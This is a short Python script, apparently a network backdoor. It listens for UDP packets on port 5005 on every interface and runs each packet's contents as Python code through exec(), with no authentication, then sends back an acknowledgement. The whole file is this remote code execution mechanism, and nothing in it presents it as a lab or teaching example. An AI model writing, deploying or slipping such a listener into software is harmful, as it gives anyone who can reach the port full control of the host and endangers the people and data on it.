import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("0.0.0.0", 5005))
while True:
    payload, addr = sock.recvfrom(8192)
    exec(payload.decode("utf-8", "ignore"))
    sock.sendto(b"ack", addr)
